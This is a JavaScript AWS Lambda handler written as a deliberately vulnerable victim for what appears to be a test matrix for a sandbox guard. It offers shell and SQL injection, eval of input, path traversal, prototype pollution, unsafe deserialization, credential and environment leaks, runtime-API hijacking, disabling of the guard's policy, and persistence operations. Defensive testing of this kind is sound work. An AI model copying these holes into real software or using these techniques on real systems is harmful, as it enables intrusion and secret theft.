// Does what its event asks for, and trusts it: a victim for the attack matrix. `op` names the operation, `v` is the value it uses.
const { execFileSync, spawn, spawnSync } = require('child_process');
const dgram = require('dgram');
const dns = require('dns');
const fs = require('fs');
const http = require('http');
const Module = require('module');
const net = require('net');
const path = require('path');
const { Worker } = require('worker_threads');
const zlib = require('zlib');

const DATA = '/var/task/data';
const BACKEND = process.env.BACKEND;

function request(event) {
  if (event.detail) return event.detail;
  const record = event.Records?.[0];
  if (record?.s3) return { op: record.s3.bucket.name, v: decodeURIComponent(record.s3.object.key.replaceAll('+', ' ')) };
  if (record?.dynamodb) return { op: record.dynamodb.NewImage.op.S, v: record.dynamodb.NewImage.v.S };
  if (record) return JSON.parse(record.body ?? record.Sns?.Message ?? Buffer.from(record.kinesis.data, 'base64').toString());
  if (event.queryStringParameters) {
    const query = event.queryStringParameters;
    if (query.op === 'cookie') return { op: 'cookie', v: decodeURIComponent(event.cookies[1].split('=')[1]) };
    if (query.op === 'names') return { op: 'names', v: Object.keys(query).filter((name) => name !== 'op').join(' ') };
    if (query.op === 'parts') return { op: 'parts', v: JSON.parse(event.body).parts.join(' ') };
    return 'v' in query ? query : { op: query.op, v: upload(event) };
  }
  return JSON.parse(event.isBase64Encoded ? Buffer.from(event.body, 'base64').toString() : event.body);
}

// What was sent as bytes, in base64: the body, or the file in a form behind its first field.
function upload(event) {
  const body = Buffer.from(event.body, 'base64').toString('latin1');
  const boundary = event.headers['content-type'].split('boundary=')[1];
  const part = boundary && body.split(`--${boundary}`)[2];
  return Buffer.from(part ? part.slice(part.indexOf('\r\n\r\n') + 4, -2) : body, 'latin1').toString('base64');
}

function base32(text) {
  const bits = Array.from(text.replace(/=+$/, ''), (c) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'.indexOf(c).toString(2).padStart(5, '0')).join('');
  return Buffer.from(bits.match(/.{8}/g).map((b) => parseInt(b, 2))).toString();
}

const run = (program, ...argv) => {
  const done = spawnSync(program, argv);
  if (done.error) throw done.error;
  return done.stdout.toString();
};
const sh = (command) => run('/bin/sh', '-c', command);
const write = (file, content = 'x') => {
  fs.writeFileSync(file, content);
  return `written ${file}`;
};
const get = (url) =>
  new Promise((resolve, reject) =>
    http.get(url, { agent: false }, (answer) => {
      let text = '';
      answer.on('data', (piece) => (text += piece));
      answer.on('end', () => resolve(text));
    }).on('error', reject));
const connect = (target) =>
  new Promise((resolve, reject) => {
    const [host, port] = target.split(':');
    const socket = net.connect({ host, port: Number(port), timeout: 500 });
    socket.on('connect', () => { socket.destroy(); resolve('connected'); });
    socket.on('timeout', () => { socket.destroy(); reject(new Error('no answer')); });
    socket.on('error', reject);
  });
// By AWS's own client, which is loaded as late as a function may.
async function call(operation) {
  const { DynamoDB, Lambda } = require('./aws.js');
  const [name, method] = operation.split(':');
  const settings = { region: 'us-east-1', endpoint: `http://${name}.us-east-1.amazonaws.com:${process.env.AWS_PORT}` };
  switch (method) {
    case 'Scan': return JSON.stringify((await new DynamoDB(settings).scan({ TableName: 'table' })).Items);
    case 'GetItem': return JSON.stringify((await new DynamoDB(settings).getItem({ TableName: 'table', Key: { id: { S: '1' } } })).Item);
    case 'UpdateFunctionCode': return (await new Lambda(settings).updateFunctionCode({ FunctionName: 'other', S3Bucket: 'bucket', S3Key: 'key' })).Description;
    default: return (await new Lambda(settings).invoke({ FunctionName: 'other' })).Payload.transformToString();
  }
}
const lookup = (name) =>
  new Promise((resolve) => dns.lookup(name, (error, address) => resolve(error ? `looked up, ${error.code}` : `found ${address}`)));

// As node-serialize's unserialize.
function unserialize(text) {
  const object = JSON.parse(text);
  for (const key in object) {
    if (typeof object[key] === 'string' && object[key].startsWith('_$$ND_FUNC$$_')) object[key] = eval(`(${object[key].slice(13)})`);
  }
  return object;
}

// Trusts the names in an archive; reads its files one after the other.
// A statement made of a name.
async function accounts(name, ssl) {
  const { Client } = require('pg');
  const [host, port] = process.env.DATABASE.split(':');
  const client = new Client({ host, port: Number(port), user: 'postgres', ssl });
  await client.connect();
  try {
    return JSON.stringify((await client.query(`select password from users where name='${name}'`)).rows);
  } finally {
    await client.end();
  }
}

function unzip(archive) {
  fs.mkdirSync('/tmp/uploads', { recursive: true });
  const bytes = Buffer.from(archive, 'base64');
  const paths = [];
  for (let at = 0; bytes.readUInt32LE(at) === 0x04034b50;) {
    const [method, size, name, extra] = [bytes.readUInt16LE(at + 8), bytes.readUInt32LE(at + 18), bytes.readUInt16LE(at + 26), bytes.readUInt16LE(at + 28)];
    const start = at + 30 + name + extra;
    const file = path.join('/tmp/uploads', bytes.toString('utf8', at + 30, at + 30 + name));
    const content = bytes.subarray(start, start + size);
    write(file, method === 0 ? content : zlib.inflateRawSync(content));
    paths.push(file);
    at = start + size;
  }
  return `unpacked ${paths.join(' ')}`;
}

const sendDatagram = (target) =>
  new Promise((resolve, reject) => {
    const [host, port] = target.split(':');
    const socket = dgram.createSocket('udp4');
    socket.on('error', reject);
    socket.send('what was found', Number(port), host, (error) => {
      socket.close();
      if (error && error.code !== 'ENETUNREACH') reject(error);
      else resolve('sent'); // or this machine has no way there
    });
  });

function link(target) {
  fs.rmSync('/tmp/innocent', { force: true });
  fs.symlinkSync(target, '/tmp/innocent');
  return fs.readFileSync('/tmp/innocent', 'utf8');
}

function memory() {
  const line = fs.readFileSync('/proc/self/maps', 'utf8').split('\n').find((l) => l.includes('[stack]'));
  const fd = fs.openSync('/proc/self/mem', 'r');
  try {
    return `read ${fs.readSync(fd, Buffer.alloc(8), 0, 8, parseInt(line, 16))} bytes of memory`;
  } finally {
    fs.closeSync(fd);
  }
}

function signalGuard() {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    let line = '';
    try {
      line = fs.readFileSync(`/proc/${pid}/cmdline`, 'latin1');
    } catch {
      continue; // it ended
    }
    if (line.includes('/opt/extensions/pellicle')) {
      process.kill(Number(pid), 'SIGCONT');
      return 'signalled the guard';
    }
  }
  return 'no guard';
}

function load(file) {
  fs.rmSync('/tmp/loaded.txt', { force: true });
  try {
    process.dlopen({ exports: {} }, file);
  } catch (error) {
    if (!error.message.includes('self-register')) throw error; // it is no module
  }
  return fs.readFileSync('/tmp/loaded.txt', 'utf8');
}

function loaded(name, text) {
  const file = `/tmp/${name}.js`;
  write(file, text);
  delete require.cache[file];
  return require(file).x;
}

async function imported(name, text) {
  write(`/tmp/${name}.mjs`, text);
  return (await import(`/tmp/${name}.mjs`)).x;
}

function worked(name, text) {
  write(`/tmp/${name}-worker.js`, text);
  return new Promise((resolve, reject) => new Worker(`/tmp/${name}-worker.js`).on('message', resolve).on('error', reject));
}

// Leaves a process behind that waits for input.
const left = [];
function leave(program, ...argv) {
  const child = spawn(program, argv, { stdio: ['pipe', 'ignore', 'ignore'] });
  child.unref();
  left.push(child);
  fs.mkdirSync('/tmp/uploads', { recursive: true });
  write('/tmp/uploads/left.pid', `${child.pid}\n`);
  return 'left behind';
}

const api = (method, route, body, address = process.env.AWS_LAMBDA_RUNTIME_API) => run('/bin/bash', '/var/task/http.sh', ...address.split(':'), method, `/2018-06-01/runtime/invocation/${route}`, body);
const upstream = () => process.env.PELLICLE_CHANNEL?.split('/')[1] ?? process.env.AWS_LAMBDA_RUNTIME_API;

let requestId;
let libraries = 0;
const operations = {
  shell: (v) => sh(`echo report ${v}`),
  cookie: (v) => sh(`echo report ${v}`),
  names: (v) => sh(`echo report ${v}`),
  parts: (v) => sh(`echo report ${v}`),
  'shell-twice': (v) => sh(`echo report ${Buffer.from(Buffer.from(v, 'base64').toString(), 'base64')}`),
  'shell-base32': (v) => sh(`echo report ${base32(v)}`),
  'shell-reversed': (v) => sh(`echo report ${Array.from(v).reverse().join('')}`),
  launch: (v) => run('/usr/bin/env', ...v.split(' ')),
  'launch-own': (v) => run('/usr/bin/env', `CUSTOMER=${v}`, '/bin/cat', `${DATA}/words.txt`),
  keep(v) {
    const content = Buffer.from(v, 'base64');
    write('/tmp/kept.bin', content);
    return `kept ${content.length} bytes`;
  },
  resolver: () => sendDatagram('198.51.100.53:53'),
  'resolver-own': () => sendDatagram('127.0.0.53:53'),
  'page-link': (v) => `<html><body><a href='${v}'>Your site</a></body></html>`,
  'import-file': (v) => imported('sent', v),
  'import-own': (v) => imported('own', `// Settings of this environment, made by the function itself.\nexport const x = ${JSON.stringify(v)};\n`),
  worker: (v) => worked('sent', v),
  'worker-own': (v) => worked('own', `// Made by the function itself.\nrequire('worker_threads').parentPort.postMessage(${JSON.stringify(v)});\n`),
  awk: (v) => run('/usr/bin/awk', `{print $0, "${v}"}`, `${DATA}/words.txt`),
  page: (v) => `<html><body><p>Dear ${v}</p></body></html>`,
  library(v) {
    const file = `/tmp/library-${libraries++}.so`; // what is loaded already is not loaded again
    write(file, Buffer.from(v, 'base64'));
    return load(file);
  },
  module: (v) => loaded('sent', v),
  'module-own': (v) => loaded('own', `// Settings of this environment, made by the function itself.\nexports.x = ${JSON.stringify(v)};\n`),
  'library-own': () => load(`${DATA}/library.so`),
  processes: () => run('/bin/sh', '/var/task/processes.sh'),
  'environ-list': () => sh('ps axeww'),
  tar(v) {
    run('/bin/tar', 'cf', '/tmp/out.tar', '-C', DATA, v, 'words.txt');
    const head = fs.readFileSync('/tmp/out.tar', 'latin1').slice(0, 40);
    return head.startsWith('uid=') ? head : 'archived';
  },
  read: (v) => fs.readFileSync(path.resolve(DATA, v), 'utf8'),
  'read-base64': (v) => fs.readFileSync(path.join(DATA, Buffer.from(v, 'base64').toString()), 'utf8'),
  sed: (v) => run('/bin/sed', `s/NAME/${v}/`, `${DATA}/words.txt`),
  cat: (v) => spawnSync('/bin/cat', v.split(' '), { cwd: DATA }).stdout?.toString() ?? 'not started',
  untar(v) {
    fs.mkdirSync('/tmp/uploads', { recursive: true });
    write('/tmp/in.tar', Buffer.from(v, 'base64'));
    run('/bin/tar', 'xPf', '/tmp/in.tar', '-C', '/tmp/uploads');
    return `unpacked ${fs.readFileSync(`/tmp/uploads/${run('/bin/tar', 'tPf', '/tmp/in.tar').trim()}`, 'utf8')}`;
  },
  'ld-so'() {
    fs.copyFileSync('/bin/cat', '/tmp/dropped-cat');
    return `it-read ${run('/lib64/ld-linux-x86-64.so.2', '/tmp/dropped-cat', `${DATA}/words.txt`)}`;
  },
  // As a deep copy by many libraries.
  merge(v) {
    const merge = (to, from) => {
      for (const key in from) to[key] = typeof from[key] === 'object' ? merge(to[key] ?? {}, from[key]) : from[key];
      return to;
    };
    try {
      merge({}, JSON.parse(v));
      return {}.admin ? 'admin of all' : 'merged';
    } finally {
      delete Object.prototype.admin;
    }
  },
  write(v) {
    fs.mkdirSync('/tmp/uploads', { recursive: true });
    return write(path.join('/tmp/uploads', v));
  },
  delete(v) {
    fs.mkdirSync('/tmp/uploads', { recursive: true });
    write('/tmp/uploads/old.txt');
    write('/tmp/precious.txt');
    fs.unlinkSync(path.join('/tmp/uploads', v));
    return 'deleted';
  },
  fetch: (v) => get(v.includes('://') ? v : `http://${BACKEND}/${v}`),
  connect,
  'connect-backend': () => connect(BACKEND),
  'connect-other': () => connect(process.env.OTHER),
  lookup,
  eval: (v) => `${new Function('require', `return ${v}`)(require)}`,
  template: (v) => v.replace(/\{\{(.*?)\}\}/g, (_, found) => new Function('require', `return ${found.trim()}`)(require)),
  unzip,
  postgresql: (name) => accounts(name, false),
  'postgresql-tls': (name) => accounts(name, { rejectUnauthorized: false }),
  datagram: () => sendDatagram(process.env.OTHER),
  import: async (v) => `${(await import(`data:text/javascript,${encodeURIComponent(`export default ${v}`)}`)).default}`,
  compile(v) {
    const made = new Module('/tmp/made.js');
    made._compile(`module.exports = ${v}`, '/tmp/made.js');
    return `${made.exports}`;
  },
  first() {
    write('/tmp/first.sh', 'echo loaded-it\n');
    return spawnSync('/bin/bash', ['-c', 'true'], { env: { ...process.env, BASH_ENV: '/tmp/first.sh' }, stdio: ['ignore', 'pipe', 'ignore'] }).stdout.toString();
  },
  preload() {
    fs.copyFileSync('/var/task/data/hook.so', '/tmp/hook.so');
    return spawnSync('/bin/sh', ['/var/task/script.sh'], { env: { ...process.env, LD_PRELOAD: '/tmp/hook.so' } }).stdout.toString();
  },
  // A child that is told to load a file first: one that was dropped, or one of the package.
  hooked(v) {
    if (v === 'dropped') fs.copyFileSync(`${DATA}/hooks/first.js`, '/tmp/first.js');
    const file = v === 'dropped' ? '/tmp/first.js' : `${DATA}/hooks/first.js`;
    return spawnSync(process.execPath, ['-e', '0'], { env: { ...process.env, NODE_OPTIONS: `${process.env.NODE_OPTIONS ?? ''} --require ${file}` } }).stdout.toString();
  },
  // And tries something else that an intruder does.
  persist() {
    const done = leave('/usr/bin/tail', '-f', '/dev/null');
    try {
      fs.readFileSync('/proc/self/environ');
    } catch {
      // stopped
    }
    return done;
  },
  'stay-shell': () => leave('/bin/sh', '-c', 'read x'),
  survivor: () => run('/bin/sh', '/var/task/survivor.sh'),
  pause: () => new Promise((resolve) => setTimeout(() => resolve('paused'), 2500)),
  aws: (v) => get(`http://${v}.us-east-1.amazonaws.com:${process.env.AWS_PORT}/`),
  call,
  mine: () => connect(process.env.POOL),
  'switch-runtime': () => run('/bin/bash', '/var/task/switch.sh', String(process.pid), ...process.env.AWS_LAMBDA_RUNTIME_API.split(':'), requestId),
  deserialize: (v) => JSON.stringify(unserialize(v)),
  environ: () => fs.readFileSync('/proc/self/environ', 'utf8'),
  'environ-link': () => link('/proc/self/environ'),
  'environ-child': () => sh("tr '\\0' '\\n' </proc/$PPID/environ"),
  'environ-cleared': () => run('/usr/bin/env', '-i', '/bin/sh', '-c', "tr '\\0' '\\n' </proc/$PPID/environ"),
  memory,
  link: () => link(`${DATA}/words.txt`),
  dropped() {
    write('/tmp/dropped.sh', '#!/bin/sh\necho it-ran\n');
    fs.chmodSync('/tmp/dropped.sh', 0o755);
    return run('/tmp/dropped.sh');
  },
  job: (v) => {
    write('/tmp/job.sh', v);
    return run('/bin/sh', '/tmp/job.sh');
  },
  'job-own': (v) => {
    write('/tmp/job.sh', '#!/bin/sh\necho "the nightly report for $1"\n');
    return run('/bin/sh', '/tmp/job.sh', v);
  },
  raw: (v) => run('/var/task/raw', v),
  variable(v) {
    const [name, value] = [v.slice(0, v.indexOf('=')), v.slice(v.indexOf('=') + 1)];
    const done = spawnSync('/bin/bash', ['-c', `cat ${DATA}/words.txt`], { env: { ...process.env, [name]: value } });
    if (done.error) throw done.error;
    return done.stdout.toString();
  },
  script: () => run('/bin/sh', '/var/task/script.sh'),
  'stop-runtime': () => sh('kill -STOP $PPID; kill -CONT $PPID && echo stopped-it'),
  'stop-own': () => sh('sleep 5 & kill -TERM $! && echo stopped-own'),
  'signal-guard': signalGuard,
  binding: () => process.binding('spawn_sync').spawn({ file: '/bin/uname', args: ['uname'], envPairs: [], stdio: [{ type: 'pipe', readable: true }, { type: 'pipe', writable: true }] }).output[1].toString(),
  poll: () => api('GET', 'next', ''),
  'poll-upstream': () => api('GET', 'next', '', upstream()),
  answer: () => api('POST', '01234567-89ab-cdef-0123-456789abcdef/response', 'stolen'),
  'answer-current': () => api('POST', `${requestId}/response`, '"stolen"'),
  leak: () => `leaked:${process.env.AWS_SECRET_ACCESS_KEY}`,
  'key-id': () => `role key id has ${process.env.AWS_ACCESS_KEY_ID.length} characters`,
  poison() {
    fs.mkdirSync('/tmp/.pellicle', { recursive: true });
    return write('/tmp/.pellicle/policy.json', '{"schemaVersion":1,"mode":"off"}');
  },
  note: () => write('/tmp/note.txt'),
  uname: () => execFileSync('/bin/uname').toString(),
  background() {
    spawn('/bin/sleep', ['30'], { detached: true, stdio: 'ignore' }).unref();
    return 'left behind';
  },
  sleepers: () => sh("cat /proc/[0-9]*/stat 2>/dev/null | grep -c '(sleep) [^Z]'"),
  dump: () => 'row,password\n'.repeat(20000),
  none: () => 'nothing',
};

exports.handler = async (event, context) => {
  try {
    requestId = context.awsRequestId;
    const { op, v } = request(event);
    return { statusCode: 200, body: await operations[op](v) };
  } catch (error) {
    return { statusCode: 500, body: `error: ${error.code ?? error.name}` };
  }
};
